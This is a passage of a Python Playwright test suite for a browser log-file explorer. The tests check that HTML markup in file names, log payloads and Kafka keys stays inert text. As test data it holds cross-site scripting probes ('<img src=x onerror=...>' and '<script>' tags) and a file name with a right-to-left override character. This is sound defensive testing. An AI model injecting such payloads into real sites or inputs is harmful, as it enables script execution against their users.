    dropped(page, ("x.bin", b"\x04\x00\x00\x00abc"))
    read(page, "x.bin")
    (worker,) = page.workers
    page.evaluate(f"{{ {code} }}")
    for inside in (worker, page):
        inside.evaluate("Promise.allSettled(globalThis.TRIED)")
        assert inside.evaluate("globalThis.RAN") == []
    assert asked == []
    context.close()


MARKUP = b"<img src=x onerror=globalThis.RAN=1><script>globalThis.RAN=1</script>"


def test_markup_in_payloads_and_names_of_files_stays_text(page: Page, site: Path) -> None:
    page.goto((site / "explorer.html").as_uri())
    header = struct.pack("<4sBBHQII", b"GOLD", 1, 0, 0, 0, len(MARKUP), zlib.crc32(MARKUP))
    name = "<img src=x onerror=globalThis.RAN=1>\u202e'\"&.log"
    dropped(page, (name, header + MARKUP))
    page.select_option("#format", "durable_log")
    read(page, name)
    expect(page.locator("#status")).to_contain_text(name)
    page.evaluate("explorer.goTo(30)")
    expect(page.locator("#details .value")).to_contain_text("<img src=x onerror=globalThis.RAN=1>")
    expect(page.locator("#explorer img, #explorer script")).to_have_count(0)
    assert set(ran_in(page)) == {None}


def test_markup_in_kafka_keys_and_headers_stays_text(page: Page, site: Path) -> None:
    content = place("kafka/none-0/00000000000000000000.log").read_bytes()
    texts = set(re.findall(rb"[a-z]{6,}", content))
    assert texts
    for text in texts:
        content = content.replace(text, b"<b>" + text[3:])
    page.goto((site / "explorer.html").as_uri())
    dropped(page, ("00000000000000000000.log", content))
    page.select_option("#format", "kafka")
    read(page, "00000000000000000000.log")
    at = content.index(b"<b>")
    page.evaluate(f"explorer.goTo({at})")
    expect(page.locator("#details .value")).to_contain_text("<b>")
    expect(page.locator("#explorer b, #explorer img")).to_have_count(0)
    assert set(ran_in(page)) == {None}
